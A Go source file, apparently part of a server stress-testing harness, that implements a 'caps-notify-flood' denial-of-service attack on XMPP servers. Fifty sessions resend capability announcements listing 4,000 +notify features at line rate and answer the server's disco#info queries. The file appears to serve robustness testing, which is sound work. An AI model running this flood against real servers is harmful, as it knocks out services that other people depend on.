package main

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"github.com/muctest/muctest/caps"
	"github.com/muctest/muctest/xmlnode"
)

const nsDiscoInfo = "http://jabber.org/protocol/disco#info"

// capsAttacks go after XEP-0115/XEP-0163: what a PEP service does with the
// +notify features a client's caps answer lists.
func capsAttacks() []attack {
	return []attack{
		{"caps-notify-flood", "50 sessions announcing caps whose (valid) disco#info answer lists 4,000 +notify features, then resending that presence at line rate", capsNotifyFlood},
	}
}

// capsQuery is a disco#info answer with n +notify features unique to w,
// and its XEP-0115 verification string.
func capsQuery(w, n int) (string, string) {
	q := xmlnode.New(nsDiscoInfo, "query")
	q.Append(xmlnode.New(nsDiscoInfo, "identity", "category", "client", "type", "pc", "name", "attack"))
	for i := range n {
		q.Append(xmlnode.New(nsDiscoInfo, "feature", "var", "urn:attack:caps:"+strconv.Itoa(w)+":"+strconv.Itoa(i)+"+notify"))
	}
	ver := caps.Ver(q)
	return q.String(), ver
}

var iqStartRE = regexp.MustCompile(`<iq [^>]*>`)
var attrRE = regexp.MustCompile(`(\w+)=["']([^"']*)["']`)
var nodeRE = regexp.MustCompile(`node=["']([^"']*)["']`)

func capsNotifyFlood(e *env) (string, error) {
	var answered, cut atomic.Int64
	e.parallel(50, func(i int) {
		query, ver := capsQuery(i, 4000)
		body := strings.TrimSuffix(strings.TrimPrefix(query, "<query xmlns=\""+nsDiscoInfo+"\">"), "</query>")
		c := "<c xmlns='http://jabber.org/protocol/caps' hash='sha-1' node='urn:attack:caps' ver='" + ver + "'/>"
		for !e.done() {
			s, err := e.login(ip(i), "caps"+strconv.Itoa(i), "", false)
			if err != nil {
				time.Sleep(50 * time.Millisecond)
				continue
			}
			go capsAnswerer(s, body, &answered)
			for k := 0; !e.done(); k++ {
				if s.send(strings.Repeat("<presence><status>"+strconv.Itoa(k)+"</status>"+c+"</presence>", 20)) != nil {
					if !e.done() {
						cut.Add(1)
					}
					break
				}
			}
			s.nc.Close()
		}
	})
	return fmt.Sprintf("%d caps queries answered, ", answered.Load()) + e.counts() + fmt.Sprintf(", server cut %d", cut.Load()), nil
}

// capsAnswerer reads a session's stream for caps queries and answers each.
// body is the answer's children; it is also the session's only reader.
func capsAnswerer(s *session, body string, answered *atomic.Int64) {
	buf := make([]byte, 64<<10)
	var seen []byte
	for {
		n, err := s.br.Read(buf)
		seen = append(seen, buf[:n]...)
		for {
			j := strings.Index(string(seen), nsDiscoInfo)
			if j < 0 {
				break
			}
			head := string(seen[:j])
			starts := iqStartRE.FindAllStringIndex(head, -1)
			if len(starts) == 0 {
				seen = seen[j+len(nsDiscoInfo):]
				continue
			}
			tag := head[starts[len(starts)-1][0]:starts[len(starts)-1][1]]
			attrs := map[string]string{}
			for _, m := range attrRE.FindAllStringSubmatch(tag, -1) {
				attrs[m[1]] = m[2]
			}
			rest := string(seen[j:])
			node := ""
			if m := nodeRE.FindStringSubmatch(rest[:min(len(rest), 300)]); m != nil {
				node = m[1]
			}
			seen = seen[j+len(nsDiscoInfo):]
			if attrs["type"] != "get" {
				continue
			}
			if s.send("<iq type='result' id='"+attrs["id"]+"' to='"+attrs["from"]+"'><query xmlns='"+nsDiscoInfo+"' node='"+node+"'>"+body+"</query></iq>") == nil {
				answered.Add(1)
			}
		}
		if len(seen) > 1<<20 {
			seen = seen[len(seen)-4096:]
		}
		if err != nil {
			return
		}
	}
}
